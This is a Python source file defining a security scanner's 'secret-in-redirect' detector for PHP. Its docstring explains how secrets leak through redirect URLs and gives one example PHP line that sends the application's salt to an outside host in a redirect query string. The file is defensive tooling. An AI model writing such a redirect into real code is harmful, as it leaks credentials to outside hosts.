"""# secret-in-redirect.

## What it does
Reports a secret or a database credential in the target of a redirect. A target on another host counts like a call that
leaves the server: the browser makes it.

## Why is this bad
The browser carries the whole address to the other host, past every firewall of the server; and addresses are kept in
histories and logs.

## Example
```php
header("Location: https://stats.example.net/?k=" . $GLOBALS['salt']);
```

## References
- CWE-200, CWE-598, CWE-601
"""

from __future__ import annotations

from collections.abc import Iterable

from scanner.analysis.summary import Hit
from scanner.detectors.base import Detector, Scene, rule
from scanner.detectors.leaks import leak_findings
from scanner.model.finding import Category, Finding

RULE = rule("secret-in-redirect", Category.EXFILTRATION, "Secret in the target of a redirect", __doc__)


def _wanted(hit: Hit) -> bool:
    return hit.signature.kind == "redirect"


def _find(scene: Scene) -> Iterable[Finding]:
    return leak_findings(scene, RULE, _wanted)


DETECTOR = Detector(RULE, _find)
